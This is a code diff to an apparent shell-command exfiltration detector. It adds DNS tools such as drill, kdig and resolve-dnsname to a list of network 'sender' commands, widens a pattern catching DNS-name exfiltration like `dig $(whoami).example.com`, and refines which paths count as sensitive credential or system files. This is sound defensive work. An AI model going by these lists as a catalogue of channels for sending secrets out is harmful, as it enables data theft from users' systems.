@@ -68,7 +68,7 @@ interface Carried {
 }
 
 const SENDERS: ReadonlySet<string> = new Set(
-  'curl wget nc ncat netcat socat telnet scp rsync sftp ftp tftp ssh dig nslookup host ping http https xh mail mailx sendmail mutt openssl invoke-webrequest invoke-restmethod aws gsutil rclone croc magic-wormhole wormhole finger whois busybox logger'.split(
+  'curl wget nc ncat netcat socat telnet scp rsync sftp ftp tftp ssh dig drill kdig nslookup resolve-dnsname host ping http https xh mail mailx sendmail mutt openssl invoke-webrequest invoke-restmethod aws gsutil rclone croc magic-wormhole wormhole finger whois busybox logger'.split(
     ' ',
   ),
 );
@@ -107,7 +107,9 @@ function carriedBy(
       what: 'what it is told',
       sensitive: around.encodes,
     };
-  const fed = sourcesOf(command, commands).find((source) => DUMPS.test(source.name) || READERS.test(source.name));
+  const feeding = sourcesOf(command, commands).filter((source) => DUMPS.test(source.name) || READERS.test(source.name));
+  // What is packed or encoded on its way is still what it was.
+  const fed = feeding.find(({ args }) => args.some(({ text }) => isSensitive(text))) ?? feeding[0];
   if (fed === undefined || !readsInput(command, files)) return undefined;
   return { what: `the output of ${named(fed.name)}`, sensitive: sensitiveCommand(fed) };
 }
@@ -119,7 +121,7 @@ function near(inner: ShellCommand, outer: ShellCommand): boolean {
 /** `dig $(whoami).example.com`: names of hosts, made of what is to be carried. */
 function spellsNames({ name, args }: ShellCommand): boolean {
   return (
-    /^(?:dig|nslookup|host|ping)$/.test(name) &&
+    /^(?:dig|nslookup|host|ping|resolve-dnsname|drill|kdig)$/.test(name) &&
     args.some(({ text }) =>
       /(?:[)`}]|\$\w{1,32})\.[\w.-]+\.[a-z]{2,}|^[a-z0-9+/=_-]{24,63}\.[\w-]+\.[a-z]{2,}/i.test(text),
     )
@@ -154,7 +156,7 @@ function isSensitive(text: string): boolean {
   const path = canonicalPath(text);
   if (credentialKind(path) !== undefined) return true;
   const below = belowHome(path);
-  if (below !== undefined) return PERSONAL.test(below);
+  if (below !== undefined) return (below === '' && path.key.endsWith('*')) || PERSONAL.test(below);
   return (
     path.anchor === 'root' &&
     /^\/(?:$|etc\/|etc$|root|home(?:\/\*)?$|var\/(?:log|lib|mail|spool|backups)|proc\/|private\/etc|users(?:\/\*)?$)/.test(
